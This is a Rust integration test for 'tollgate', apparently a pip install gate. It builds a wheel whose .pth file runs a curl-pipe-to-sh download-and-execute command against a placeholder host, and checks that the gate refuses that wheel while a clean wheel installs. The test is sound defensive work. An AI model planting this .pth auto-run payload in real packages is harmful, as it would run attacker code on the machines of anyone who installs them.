//! `tollgate install pip` as a gate, offline: a loopback PEP 691 simple index served by the
//! test, with a wheel the test writes itself (a zip of a few small files). A wheel whose
//! `.pth` file downloads and runs a script (from a host under `.example.invalid`, never
//! contacted) is refused at the verdict step and nothing lands in the venv; the clean wheel
//! installs. Skipped (with a printed reason) when python3 with venv and pip is missing.

mod common;

use std::path::{Path, PathBuf};

use predicates::str::contains;
use tempfile::TempDir;

const NAME: &str = "harmless-gate-fixture";

/// Serves the project page (PEP 691 JSON) and the wheel.
fn serve(wheel: Vec<u8>) -> String {
    common::simple_index(NAME, vec![(common::wheel_name(NAME), wheel)])
}

struct Setup {
    work: TempDir,
    project: PathBuf,
    venv: PathBuf,
    python_bin: PathBuf,
}

fn setup(python: &Path) -> Setup {
    let work = TempDir::new().unwrap();
    let project = work.path().join("project");
    std::fs::create_dir(&project).unwrap();
    let venv = project.join(".venv");
    let status = std::process::Command::new(python)
        .args(["-m", "venv"])
        .arg(&venv)
        .status()
        .unwrap();
    assert!(status.success());
    Setup {
        python_bin: python.parent().unwrap().to_path_buf(),
        work,
        project,
        venv,
    }
}

fn install(setup: &Setup, index: &str) -> assert_cmd::assert::Assert {
    let path = format!(
        "{}:{}:/usr/bin:/bin",
        setup.venv.join("bin").display(),
        setup.python_bin.display()
    );
    common::tollgate()
        .current_dir(&setup.project)
        .env("HOME", setup.work.path())
        .env("XDG_CACHE_HOME", setup.work.path().join("cache"))
        .env("PATH", path)
        .env("VIRTUAL_ENV", &setup.venv)
        .env("PIP_INDEX_URL", format!("{index}/simple/"))
        .env_remove("PIP_FIND_LINKS")
        .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
        .args(["install", "--allow-missing-db", "pip", "--"])
        .arg(format!("{NAME}==1.0"))
        .timeout(std::time::Duration::from_secs(180))
        .assert()
}

#[test]
fn wheel_whose_pth_downloads_and_runs_code_is_refused() {
    let Some(python) = common::python() else {
        println!("skipped: python3 with venv and pip is not installed");
        return;
    };
    let setup = setup(&python);
    let pth = "import os; os.system(\"curl -s https://payload.example.invalid/stage2 | sh\")\n";
    let index = serve(common::wheel(NAME, &[("harmless_gate_fixture.pth", pth)]));
    install(&setup, &index)
        .code(1)
        .stderr(contains(
            "refused: the install-time code of harmless_gate_fixture is judged malicious",
        ))
        .stderr(contains("harmless_gate_fixture.pth:1"))
        .stderr(contains("download-run"));
    assert!(
        !common::venv_has(&setup.venv, "harmless_gate_fixture"),
        "nothing lands in the venv"
    );
    let downloads = setup.project.join(".tollgate/wheels");
    assert_eq!(
        std::fs::read_dir(&downloads).map_or(0, |d| d.count()),
        0,
        "the refused wheel is removed"
    );
}

#[test]
fn clean_wheel_installs() {
    let Some(python) = common::python() else {
        println!("skipped: python3 with venv and pip is not installed");
        return;
    };
    let setup = setup(&python);
    let index = serve(common::wheel(NAME, &[]));
    install(&setup, &index).success();
    assert!(common::venv_has(&setup.venv, "harmless_gate_fixture"));
}
